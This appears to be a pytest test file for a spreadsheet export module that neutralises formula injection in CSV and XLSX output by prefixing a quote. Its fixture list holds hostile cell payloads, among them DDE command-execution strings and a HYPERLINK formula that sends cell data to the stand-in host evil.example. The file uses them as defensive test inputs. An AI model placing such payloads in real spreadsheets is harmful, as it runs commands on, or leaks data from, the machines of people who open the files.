"""Tables that leave the house: read back, every text is a text (G10, A21)."""

import csv
from datetime import date, datetime
from io import BytesIO, StringIO
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from wudan.kit.clock import CHINA
from wudan.kit.sheets import BOM, Column, CsvSheet, Mark, XlsxSheet, is_dangerous, neutral

AT = datetime(2026, 9, 7, 9, 30, tzinfo=CHINA)
MARK = Mark("12", "县中心·主任", AT, "年度总结 & 归档")
COLUMNS = [Column("谁", 12), Column("说了什么", 40), Column("几次", 8), Column("哪天", 12)]
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1",
    "＠SUM(A1)", "   =1+1", "\u200b=1+1", '"=1+1', "'=1+1", "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"点我")', "\u3000\ufeff“=DDE(\"cmd\";\"/C calc\";\"x\")",
]  # fmt: skip
HARMLESS = ["张**", "尾号1234", "杨柳村站", "1+1=2", "a@b", "", "上门-理发", "5=五"]


def read_csv(content):
    text = content.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(StringIO(text.removeprefix(BOM), newline="")))


def written(kind, texts):
    sheet = kind("名册", COLUMNS, MARK)
    for text in texts:
        sheet.add([text, text, 3, date(2026, 9, 7)])
    return sheet.finish()


def test_there_are_eighteen_spellings():
    assert len(set(FORMULAS)) == 18
    assert all(map(is_dangerous, FORMULAS))
    assert not any(map(is_dangerous, HARMLESS))


def test_a_formula_is_a_text_in_csv():
    rows = read_csv(written(CsvSheet, FORMULAS + HARMLESS))
    assert [row[0][0] for row in rows[2 : 2 + 18]] == ["'"] * 18
    assert [row[1] for row in rows[2 + 18 :]] == HARMLESS
    assert rows[2][2:] == ["3", "2026-09-07"]


def test_a_formula_is_a_text_in_xlsx():
    content = written(XlsxSheet, FORMULAS + HARMLESS)
    sheet = load_workbook(BytesIO(content)).active
    rows = list(sheet.iter_rows(min_row=3))
    for row, text in zip(rows, FORMULAS + HARMLESS, strict=True):
        assert row[0].data_type in {"s", "inlineStr"}
        assert (row[0].value or "").replace("\n", "\r").strip() == text.replace("\n", "\r").strip()
        assert bool(row[0].quotePrefix) is is_dangerous(text)
        assert (row[2].data_type, row[2].value) == ("n", 3)
        assert row[3].is_date
    with ZipFile(BytesIO(content)) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
        assert not [name for name in parts.namelist() if "vba" in name or "external" in name]


def test_the_mark_is_in_the_sheet_and_in_its_properties():
    book = load_workbook(BytesIO(written(XlsxSheet, ["x"])))
    told = [book.active["A1"].value, book.properties.description, book.active.oddHeader.center.text]
    for words in told:
        assert all(part in words for part in ("12", "县中心·主任", "2026-09-07 09:30", "年度总结"))
    assert book.properties.creator == "县中心·主任"
    assert "导出编号 12" in read_csv(written(CsvSheet, ["x"]))[0][0]


@given(st.text(max_size=30))
def test_any_text_comes_back_as_a_text(text):
    cell = read_csv(written(CsvSheet, [text]))[2][0]
    assert not is_dangerous(cell) or cell.startswith("'")
    back = load_workbook(BytesIO(written(XlsxSheet, [text]))).active["A3"]
    assert back.data_type != "f"


@pytest.mark.parametrize("text", FORMULAS)
def test_the_quote_comes_first(text):
    assert neutral(text)[0] == "'"
    assert neutral(text)[1:] == text
